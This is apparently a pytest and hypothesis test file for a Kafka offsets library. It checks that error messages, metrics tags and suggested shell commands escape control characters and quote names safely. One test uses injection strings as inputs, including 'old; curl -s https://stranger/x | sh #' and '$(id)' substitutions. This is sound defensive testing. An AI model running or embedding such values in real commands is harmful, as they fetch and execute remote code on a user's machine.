"""Texts of others where they are shown: they do nothing but be read."""

from __future__ import annotations

import shlex
import unicodedata
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_kafka_offsets.core.offsets import OffsetRange, Slice, TopicPartition
from airflow_kafka_offsets.escaping import command_line, printable, shell_words
from airflow_kafka_offsets.exceptions import (
    ConfigurationError,
    RecordError,
    TransformError,
    VerificationError,
    Violation,
)
from airflow_kafka_offsets.hooks.metrics import emit_lag
from airflow_kafka_offsets.lag.report import LagReport, PartitionLag
from airflow_kafka_offsets.ledger.double_loads import _double_load
from airflow_kafka_offsets.rewinding.scenarios import write_offsets
from tests.support.hostile import HOSTILE, controls, hostile_texts


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07", r"\x1b]0;title\x07"),
        ("\x9b31m", r"\x9b31m"),
        ("user\u202egpj.exe", r"user\u202egpj.exe"),
        ("a\u2028b\x85c\nd", r"a\u2028b\x85c\nd"),
        ("\ud800", r"\ud800"),
        ("\U000e0041", r"\U000e0041"),
        ("\0", r"\x00"),
        (
            "日本\u3000語, naïve, נ, 👍, نامه\u200cای, 1\u00a0000",
            "日本\u3000語, naïve, נ, 👍, نامه\u200cای, 1\u00a0000",
        ),
    ],
)
def test_what_is_no_visible_character_is_escaped(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(st.text(st.characters(exclude_categories=("Cc", "Cs"))))
def test_a_shell_takes_what_is_to_be_copied_as_words(text: str) -> None:
    for words in (("--replace", text), ("rewind", text)):
        assert shlex.split(shell_words(*words)) == [printable(word) for word in words]
        assert command_line(*words) == f"kafka-offsets {shell_words(*words)}"


@given(st.text(st.characters(exclude_categories=())) | hostile_texts())
def test_every_text_is_visible_and_stays_so(text: str) -> None:
    shown = printable(text)

    assert not controls(shown)
    shown.encode()
    assert printable(shown) == shown
    assert printable(text, keep="\n").count("\n") == text.count("\n")


def test_every_category_of_characters_is_visible_or_escaped() -> None:
    escaped = {unicodedata.category(char) for char in map(chr, range(0x110000)) if printable(char) != char}

    assert escaped == {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}


def test_errors_say_nothing_that_is_not_visible() -> None:
    errors = [
        TransformError(f"The transform raised ValueError: {HOSTILE}\n  File {HOSTILE}"),
        ConfigurationError(f"Group {HOSTILE}\n"),
        RecordError(HOSTILE, HOSTILE, 0, 1),
        VerificationError(HOSTILE, (Violation(HOSTILE),)),
    ]

    assert controls(str(errors[0])) == {"\n"}
    assert "\n  File " in str(errors[0])
    for error in errors[1:]:
        assert not controls(str(error))


@given(hostile_texts() | st.just("old; curl -s https://stranger/x | sh #") | st.just("$(id)`id`'\"\n"))
def test_a_command_to_copy_has_a_name_as_one_word(name: str) -> None:
    row = SimpleNamespace(
        kind="replay", state="committed", batch_id=3, consumer_group=name, start_offset=0, end_offset=10
    )
    planned: Any = OffsetRange(name, 0, 0, 10, 10)
    none: Any = None

    error = str(_double_load(none, none, row, "offsets", name, "orders", planned))

    command = error[error.index("kafka-offsets ") : error.index(" --to-offset")]
    topic = f"{printable(name)}:0"
    assert shlex.split(command) == ["kafka-offsets", "rewind", printable(name), "--topic", topic]
    assert not controls(error)


def test_a_topic_of_the_state_tables_ends_no_line_of_metrics_and_of_csv() -> None:
    tags: list[str] = []
    stats = SimpleNamespace(gauge=lambda *_, **named: tags.append(named["tags"]["topic"]))

    emit_lag(stats, "loader", LagReport((PartitionLag(HOSTILE, 0, lag=1),)))
    text = write_offsets({TopicPartition(HOSTILE, 0): 1})

    assert tags
    assert not controls("".join(tags))
    assert controls(text) == {"\n"}
    assert text.count("\n") == 1


def test_partitions_and_ranges_are_visible() -> None:
    assert not controls(f"{TopicPartition(HOSTILE, 0)} {Slice(0, HOSTILE, 0, 0, 1)}")
